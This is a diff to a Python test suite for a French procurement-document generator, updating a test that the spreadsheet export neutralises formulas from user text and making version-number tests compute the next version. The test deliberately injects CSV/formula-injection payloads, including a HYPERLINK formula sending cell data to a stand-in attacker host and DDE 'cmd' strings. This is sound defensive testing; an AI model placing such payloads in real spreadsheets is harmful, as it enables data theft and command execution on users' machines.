@@ -445,22 +445,23 @@ def test_M8_verifier_document_detects_changed_text_and_stripped_provenance(runne
 
 def test_M9_xlsx_cells_never_start_a_formula_from_user_text(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
     import openpyxl
+    import yaml
 
-    text = NETTOYAGE.read_text(encoding="utf-8")
-    first = "libelle: Réaliser le prorata annuel des heures d'insertion sur le marché"
+    data = yaml.safe_load(NETTOYAGE.read_text(encoding="utf-8"))
+    axis = data["plans"][0]["axes"][0]  # the first rows of the year-1 sheet
+    link = '=HYPERLINK("http://attacker.example/?x="&C2,"Cliquez ici")'
+    axis["objectifs"][0].update(libelle=link, indicateur="=1+1", unite="=cmd|' /C calc'!A0")
+    axis["actions_titulaire"][0]["libelle"] = "@SUM(1+1)*cmd|' /C calc'!A0"
     dossier = tmp_path / "d.yml"
-    link = """libelle: '=HYPERLINK("http://attacker.example/?x="&C2,"Cliquez ici")'"""
-    dossier.write_text(text.replace(first, link)
-                       .replace("indicateur: Heures de travail réalisées par des personnes éligibles, "
-                                "affectées au marché", "indicateur: '=1+1'")
-                       .replace("unite: heures", "unite: \"=cmd|' /C calc'!A0\"", 1), encoding="utf-8")
+    dossier.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False), encoding="utf-8")
     out = tmp_path / "t.xlsx"
     result = runner.invoke(cli, ["tableau-de-bord", str(dossier), "-o", str(out)])
     assert result.exit_code == 0, result.output
     sheet = openpyxl.load_workbook(out)["Année 1"]
     values = {cell.coordinate: cell for cell in sheet[2]}
     assert values["B2"].value.startswith("=HYPERLINK")
-    for coordinate in ("B2", "C2", "D2"):
+    assert values["I2"].value.startswith("@SUM")  # « Actions » column (user text first)
+    for coordinate in ("B2", "C2", "D2", "I2"):
         assert values[coordinate].data_type == "s", coordinate
         assert values[coordinate].quotePrefix, coordinate
     assert sheet["G2"].data_type == "f"  # the workbook's own formula stays a formula
@@ -811,30 +812,41 @@ def test_item1_bundled_library_is_read_only(runner, tmp_path: Path, monkeypatch)
     assert _tree(LIBRARY) == before
 
 
+def _latest_and_next(fragment_id: str) -> tuple[str, str]:
+    """The latest bundled version of a fragment and the next minor version (computed: a
+    library release may already ship the version a test would otherwise hard-code)."""
+    from clausegen.library import load_library
+
+    latest = str(load_library(LIBRARY).versions(fragment_id)[-1].meta.version)
+    major, minor, _ = (int(part) for part in latest.split("."))
+    return latest, f"{major}.{minor + 1}.0"
+
+
 def test_item1_init_then_new_version_goes_to_the_organisation_library(runner, tmp_path: Path,
                                                                       monkeypatch) -> None:  # type: ignore[no-untyped-def]
     monkeypatch.chdir(tmp_path)
+    latest, new = _latest_and_next("general.objet")
     before = _tree(LIBRARY)
     result = runner.invoke(cli, ["bibliotheque", "init", "orga"])
     assert result.exit_code == 0, result.output
     assert (tmp_path / ".clausegen.yml").read_text(encoding="utf-8").endswith("  - orga\n")
-    result = runner.invoke(cli, ["bibliotheque", "nouvelle-version", "general.objet", "--version", "1.1.0"])
+    result = runner.invoke(cli, ["bibliotheque", "nouvelle-version", "general.objet", "--version", new])
     assert result.exit_code == 0, result.output
     assert "Bibliothèques de l'organisation ajoutées par" in result.output
-    draft = tmp_path / "orga" / "fragments" / "general.objet" / "1.1.0.md"
+    draft = tmp_path / "orga" / "fragments" / "general.objet" / f"{new}.md"
     assert "statut: brouillon" in draft.read_text(encoding="utf-8")
-    result = runner.invoke(cli, ["ccap", str(NETTOYAGE), "-o", "c.docx"])  # 1.0.0 still in force
+    result = runner.invoke(cli, ["ccap", str(NETTOYAGE), "-o", "c.docx"])  # the bundled one still in force
     assert result.exit_code == 0, result.output
     from clausegen.render.inspect import read_provenance
 
     record = read_provenance((tmp_path / "c.docx").read_bytes())
-    assert record["fragment.general.objet"].startswith("1.0.0 ")
+    assert record["fragment.general.objet"].startswith(f"{latest} ")
     for target, extra in (("en_revue", []), ("valide", ["--par", "Maître Durand", "--le", "2026-12-01"])):
-        result = runner.invoke(cli, ["bibliotheque", "statut", "general.objet@1.1.0", target, *extra])
+        result = runner.invoke(cli, ["bibliotheque", "statut", f"general.objet@{new}", target, *extra])
         assert result.exit_code == 0, result.output
     assert runner.invoke(cli, ["ccap", str(NETTOYAGE), "-o", "d.docx"]).exit_code == 0
     record = read_provenance((tmp_path / "d.docx").read_bytes())
-    assert record["fragment.general.objet"].startswith("1.1.0 ")
+    assert record["fragment.general.objet"].startswith(f"{new} ")
     assert _tree(LIBRARY) == before
     result = runner.invoke(cli, ["bibliotheque", "init", "orga"])
     _refused(result, 1, "n'est pas vide")
@@ -848,12 +860,13 @@ def test_item1_maintainers_name_the_source_library_explicitly(runner, tmp_path: 
     source = tmp_path / "clause_library"
     shutil.copytree(LIBRARY, source)
     monkeypatch.setattr(marche, "library_dir", lambda: source)
-    result = runner.invoke(cli, ["bibliotheque", "nouvelle-version", "general.objet", "--version", "1.1.0"])
+    _, new = _latest_and_next("general.objet")
+    result = runner.invoke(cli, ["bibliotheque", "nouvelle-version", "general.objet", "--version", new])
     _refused(result, 1, "clausegen bibliotheque init")
-    result = runner.invoke(cli, ["bibliotheque", "nouvelle-version", "general.objet", "--version", "1.1.0",
+    result = runner.invoke(cli, ["bibliotheque", "nouvelle-version", "general.objet", "--version", new,
                                  "--bibliotheque", str(source)])
     assert result.exit_code == 0, result.output
-    assert (source / "fragments" / "general.objet" / "1.1.0.md").is_file()
+    assert (source / "fragments" / "general.objet" / f"{new}.md").is_file()
 
 
 def test_L16_provenance_names_the_organisation_release(runner, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
